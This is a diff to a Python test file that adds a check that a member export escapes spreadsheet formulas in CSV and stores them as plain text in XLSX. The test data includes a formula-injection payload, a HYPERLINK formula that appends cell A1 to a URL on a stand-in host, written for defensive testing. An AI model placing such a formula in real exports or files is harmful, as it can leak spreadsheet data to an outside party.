@@ -1,5 +1,6 @@
 import csv
 import datetime as dt
+import zipfile
 from pathlib import Path
 from typing import Any
 
@@ -57,6 +58,26 @@ def test_csv_is_utf8_with_bom_and_dd_mm_yyyy(people: Tree, tmp_path: Path) -> No
         rows = list(csv.reader(source))
     assert rows[1][:4] == ["Trần Thị Bình", "", "Nữ", "15/03/1985"]
     assert len(rows) == 2
+
+
+def test_would_be_formulas_are_text_in_both_formats(
+    tree: Tree, add_member: AddMember, tmp_path: Path
+) -> None:
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
+    add_member(tree.cell_a1, full_name="Lê Văn Công", workplace=hostile, phone="+84912345678")
+    csv_path, xlsx_path = tmp_path / "ds.csv", tmp_path / "ds.xlsx"
+    filters = MemberFilter(as_of=D(2025, 1, 1))
+
+    members_export(user=Operator(), filters=filters, path=csv_path)
+    members_export(user=Operator(), filters=filters, path=xlsx_path)
+
+    with csv_path.open(encoding="utf-8-sig") as source:
+        [_header, row] = list(csv.reader(source))
+    assert row[14] == "'" + hostile and row[15] == "'+84912345678"
+    with zipfile.ZipFile(xlsx_path) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    [_header, cells] = _xlsx(xlsx_path)
+    assert cells[14] == hostile and cells[15] == "+84912345678"  # text cells, as typed
 
 
 def test_an_export_is_scoped_and_logged(people: Tree, tmp_path: Path, make_user: MakeUser) -> None:
